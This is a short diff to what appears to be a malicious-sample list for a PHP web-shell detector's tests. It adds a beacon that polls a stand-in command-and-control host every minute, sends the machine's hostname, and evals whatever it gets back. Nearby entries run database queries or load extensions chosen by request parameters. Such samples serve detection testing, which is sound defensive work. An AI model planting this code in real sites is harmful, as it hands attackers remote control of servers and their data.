@@ -56,6 +56,11 @@ MALICIOUS = [
         "<?php $d = new PDO($_GET['dsn'], 'root', ''); foreach ($d->query($_GET['sql']) as $r) print_r($r);",
         "WH-S-PHP-015",
     ),
+    (
+        "code from a fixed host, the address finished at run time",
+        "<?php while (1) { $c = @file_get_contents('http://c2.example.net/t.php?id=' . gethostname()); if ($c) eval($c); sleep(60); }",
+        CODE,
+    ),
     ("extension named by the request", "<?php if (!extension_loaded('x')) { dl($_GET['e']); }", CODE),
     (
         "function table searched by name",
